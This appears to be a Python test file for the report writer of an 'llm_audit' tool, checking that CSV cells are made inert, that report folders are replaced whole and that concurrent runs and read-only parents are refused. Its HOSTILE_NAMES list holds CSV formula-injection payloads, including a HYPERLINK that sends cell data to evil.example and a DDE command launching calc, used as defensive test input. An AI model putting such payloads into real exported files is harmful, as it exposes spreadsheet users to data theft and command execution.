"""Outputs a user can trust (`llm_audit/report/files.py`): CSV cells a spreadsheet cannot run, a
report folder replaced whole, one run per folder, and a read-only parent found before the scan."""

from __future__ import annotations

import contextlib
import csv
import fcntl
import importlib
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pandas as pd
import pytest
import torch
from safetensors.torch import save_file

import llm_audit
from llm_audit.errors import OutputError
from llm_audit.report.files import replace_folder, report_lock, write_csv
from llm_audit.result import REPORT_FILES

Cli = Callable[..., tuple[int, str, str]]
SCAN_MODULE = importlib.import_module("llm_audit.scan")
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click").weight',
    "+cmd|' /C calc'!A0.weight",
    "-2+3.weight",
    "@SUM(A1:A9).weight",
    "\tTAB.weight",
    "\rCR.weight",
]


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("csv") / "m"
    folder.mkdir()
    g = torch.Generator().manual_seed(0)
    save_file(
        {name: torch.randn(16, 16, generator=g) for name in HOSTILE_NAMES},
        str(folder / "model.safetensors"),
    )
    return folder


# ---- CSV injection ----------------------------------------------------------------------------


def test_formula_cells_are_made_inert_and_numbers_stay_numbers(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {"name": [*HOSTILE_NAMES, "plain.weight"], "alpha": [-1.5, 2.0, 3, 4, 5, 6, -7.25]}
    )
    write_csv(table, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["'" + n for n in HOSTILE_NAMES] + ["plain.weight"]
    assert [r["alpha"] for r in rows] == ["-1.5", "2.0", "3.0", "4.0", "5.0", "6.0", "-7.25"]
    assert table["name"].iloc[0] == HOSTILE_NAMES[0]  # the caller's table is not changed


def test_layers_csv_of_a_scan_holds_no_formula(hostile_model: Path, tmp_path: Path) -> None:
    result = llm_audit.scan(hostile_model, traps=False)
    result.save(tmp_path / "r", ("csv", "json"))
    with (tmp_path / "r" / "layers.csv").open(newline="") as fh:
        names = [row["name"] for row in csv.DictReader(fh)]
    assert sorted(names) == sorted("'" + n for n in HOSTILE_NAMES)
    assert {r["name"] for r in result.records} == set(HOSTILE_NAMES)  # audit.json keeps them


# ---- the folder is replaced whole -------------------------------------------------------------


def _write(names: dict[str, str]) -> Callable[[Path], None]:
    def write(staging: Path) -> None:
        for name, text in names.items():
            (staging / name).write_text(text)

    return write


def test_a_narrower_rescan_leaves_no_file_of_the_previous_run(tmp_path: Path) -> None:
    folder = tmp_path / "report"
    replace_folder(folder, _write({"audit.json": "1", "report.html": "1"}), REPORT_FILES)
    (folder / ".journal.jsonl").write_text("{}")  # a resume journal of the run may be there
    replace_folder(folder, _write({"audit.json": "2"}), REPORT_FILES)
    assert sorted(p.name for p in folder.iterdir()) == ["audit.json"]
    assert (folder / "audit.json").read_text() == "2"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]  # no staging or lock left


def test_a_failed_write_leaves_the_old_report_whole(tmp_path: Path) -> None:
    folder = tmp_path / "report"
    replace_folder(folder, _write({"audit.json": "1", "layers.csv": "1"}), REPORT_FILES)

    def failing(staging: Path) -> None:
        (staging / "audit.json").write_text("2")
        raise OSError(28, "No space left on device")

    with pytest.raises(OutputError, match="No space left on device"):
        replace_folder(folder, failing, REPORT_FILES)
    files = {p.name: p.read_text() for p in folder.iterdir()}
    assert files == {"audit.json": "1", "layers.csv": "1"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


@pytest.mark.parametrize("foreign", ["notes.txt", "sub/"])
def test_a_folder_holding_other_files_is_not_replaced(tmp_path: Path, foreign: str) -> None:
    folder = tmp_path / "report"
    folder.mkdir()
    (folder / "audit.json").write_text("old")
    if foreign.endswith("/"):
        (folder / foreign).mkdir()
    else:
        (folder / foreign).write_text("mine")
    name = foreign.rstrip("/")
    with pytest.raises(OutputError, match=f"holds '{name}', which llm-audit did not write"):
        replace_folder(folder, _write({"audit.json": "new"}), REPORT_FILES)
    assert (folder / "audit.json").read_text() == "old"


def test_the_folder_keeps_its_permissions(tmp_path: Path) -> None:
    folder = tmp_path / "report"
    folder.mkdir(mode=0o750)
    folder.chmod(0o750)
    replace_folder(folder, _write({"audit.json": "1"}), REPORT_FILES)
    assert folder.stat().st_mode & 0o777 == 0o750
    fresh = tmp_path / "fresh"
    replace_folder(fresh, _write({"audit.json": "1"}), REPORT_FILES)
    assert fresh.stat().st_mode & 0o777 != 0o700  # mkdtemp's mode does not leak out


# ---- one run per folder -----------------------------------------------------------------------


@contextlib.contextmanager
def _held_by_another_process(folder: Path) -> Iterator[int]:
    """A second process holding the folder's report lock, as a running scan would; its pid."""
    code = (
        "import sys, time; from pathlib import Path\n"
        "from llm_audit.report.files import report_lock\n"
        "with report_lock(Path(sys.argv[1])):\n    print('held', flush=True); time.sleep(120)\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", code, str(folder)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert proc.stdout is not None and proc.stdout.readline() == "held\n"
        yield proc.pid
    finally:
        proc.kill()
        proc.wait()


@pytest.mark.slow
def test_a_second_run_into_the_same_folder_is_refused_naming_the_first(
    tmp_path: Path, hostile_model: Path, cli: Cli
) -> None:
    out = tmp_path / "out"
    with _held_by_another_process(out) as pid:
        code, _, err = cli("scan", hostile_model, "--out", out, "--no-progress")
        assert code == 2 and err.count("\n") == 1, err
        assert f"another llm-audit run (pid {pid}) is writing this report" in err
        with pytest.raises(OutputError, match=f"pid {pid}"):
            llm_audit.scan(hostile_model, traps=False).save(out)
    assert not out.exists()
    code, _, err = cli("scan", hostile_model, "--out", out, "--no-progress", "--no-traps")
    assert code == 0, err  # the lock died with its process


def test_a_held_lock_refuses_the_scan_before_it_starts(
    tmp_path: Path, hostile_model: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    scanned = []
    monkeypatch.setattr(SCAN_MODULE, "scan", lambda *a, **k: scanned.append(a))
    lock = tmp_path / ".out.lock"
    fd = os.open(lock, os.O_RDWR | os.O_CREAT)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)  # another open file: conflicts even within this process
        os.write(fd, b"4242\n")
        code, _, err = cli("scan", hostile_model, "--out", tmp_path / "out", "--no-progress")
    finally:
        os.close(fd)
    assert code == 2 and "another llm-audit run (pid 4242)" in err and scanned == [], err


def test_a_stale_lock_file_does_not_block(tmp_path: Path) -> None:
    folder = tmp_path / "report"
    (tmp_path / ".report.lock").write_text("99999999\n")  # left by a run killed long ago
    replace_folder(folder, _write({"audit.json": "1"}), REPORT_FILES)
    with report_lock(folder), report_lock(folder):  # re-entrant within one process
        replace_folder(folder, _write({"audit.json": "2"}), REPORT_FILES)
    assert (folder / "audit.json").read_text() == "2"


# ---- a read-only parent is found before the scan ----------------------------------------------


@contextlib.contextmanager
def _read_only_parent(parent: Path, *, out_exists: bool) -> Iterator[Path]:
    """`parent` read-only (a bind mount; needs root) and `parent/out`, which if it exists is a
    writable mount of its own."""
    out = parent / "out"
    (out if out_exists else parent).mkdir(parents=True)
    steps = [["mount", "--bind", str(out), str(out)]] if out_exists else []
    steps += [
        ["mount", "--rbind", str(parent), str(parent)],
        ["mount", "-o", "remount,bind,ro", str(parent)],
    ]
    done = []
    try:
        for step in steps:
            ran = subprocess.run(step, capture_output=True)
            if ran.returncode != 0:
                pytest.skip(f"cannot make a read-only bind mount: {ran.stderr.decode().strip()}")
            done.append(step[-1])
        yield out
    finally:
        if parent.as_posix() in done:
            subprocess.run(["umount", "-R", str(parent)], check=True)
        if out_exists and done:
            subprocess.run(["umount", str(out)], capture_output=True)


@pytest.mark.parametrize("out_exists", [True, False])
def test_a_read_only_parent_is_refused_before_the_scan(
    out_exists: bool,
    tmp_path: Path,
    hostile_model: Path,
    cli: Cli,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    scanned = []
    monkeypatch.setattr(SCAN_MODULE, "scan", lambda *a, **k: scanned.append(a))
    with _read_only_parent(tmp_path / "ro", out_exists=out_exists) as out:
        if out_exists:
            (out / "probe").touch()  # the folder itself is writable
            (out / "probe").unlink()
        code, _, err = cli("scan", hostile_model, "--out", out, "--no-progress")
    assert code == 2 and err.count("\n") == 1, err
    assert f"{tmp_path / 'ro'} is not writable" in err and "swapped in" in err
    assert scanned == []
